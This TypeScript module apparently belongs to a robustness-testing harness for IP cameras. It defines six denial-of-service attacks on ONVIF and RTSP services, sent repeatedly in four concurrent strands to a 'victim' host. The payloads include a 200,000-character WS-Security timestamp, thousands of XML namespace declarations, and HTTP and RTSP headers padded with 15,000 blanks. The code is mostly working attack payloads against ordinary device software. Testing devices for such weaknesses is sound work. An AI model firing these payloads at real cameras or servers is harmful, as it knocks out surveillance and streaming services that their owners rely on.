import { type Attack, strands, type Victim } from '../attack.ts';
import { exchange, post } from '../raw.ts';

/** An attack that sends the same request again and again, in four strands. */
function repeated(name: string, port: (victim: Victim) => number, request: (victim: Victim) => string): Attack {
  return {
    name,
    about: 'A1: cost of hostile text',
    run: (victim, localAddress, signal) => {
      const text = request(victim);
      const place = { host: victim.host, port: port(victim), localAddress };
      return strands(4, signal, async () => void (await exchange(place, text)));
    },
  };
}

const soap = 'http://www.w3.org/2003/05/soap-envelope';
const wsse = 'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss';
const question = '<GetUsers xmlns="http://www.onvif.org/ver10/device/wsdl"/>';

const createdTime = (): string =>
  post(
    '/onvif/device_service',
    `<s:Envelope xmlns:s="${soap}"><s:Header><w:Security xmlns:w="${wsse}-wssecurity-secext-1.0.xsd"><w:UsernameToken>` +
      `<w:Username>admin</w:Username><w:Password Type="${wsse}-username-token-profile-1.0#PasswordDigest">AAAA</w:Password>` +
      `<w:Nonce>AAAA</w:Nonce><u:Created xmlns:u="${wsse}-wssecurity-utility-1.0.xsd">${'T'.repeat(200_000)}</u:Created>` +
      `</w:UsernameToken></w:Security></s:Header><s:Body>${question}</s:Body></s:Envelope>`,
  );

function namespaces(): string {
  const declared = Array.from({ length: 4_000 }, (_, index) => ` xmlns:n${index}="u"`).join('');
  return post(
    '/onvif/device_service',
    `<s:Envelope xmlns:s="${soap}"${declared}><s:Body>${'<n1:a/>'.repeat(18_000)}</s:Body></s:Envelope>`,
  );
}

/** RTSP requests and HTTP heads of blanks, which a careless expression tries from each place anew. */
const blanks = ' '.repeat(15_000);

export const hostileText: readonly Attack[] = [
  repeated('created-time', ({ http }) => http, createdTime),
  repeated('namespaces', ({ http }) => http, namespaces),
  repeated(
    'blank-heads-web',
    ({ http }) => http,
    () => `GET /${blanks}x HTTP/1.1\r\nHost:${blanks}x\r\n\r\n`,
  ),
  repeated(
    'blank-heads-rtsp',
    ({ rtsp }) => rtsp,
    () => `OPTIONS * RTSP/1.0\r\nCSeq:${blanks}1 x\r\n\r\n`,
  ),
  repeated(
    'key-management-rtsp',
    ({ rtsp }) => rtsp,
    ({ path }) => {
      const body = `KeyMgmt: prot=mikey;data="${'A'.repeat(14_000)}"${blanks}`;
      return `SET_PARAMETER rtsp://127.0.0.1/${path} RTSP/1.0\r\nCSeq: 1\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
    },
  ),
  repeated(
    'blank-transport-rtsp',
    ({ rtsp }) => rtsp,
    ({ path }) =>
      `SETUP rtsp://127.0.0.1/${path}/track1 RTSP/1.0\r\nCSeq: 1\r\nTransport: RTP/AVP;${blanks};client_port=1-2\r\n\r\n`,
  ),
];
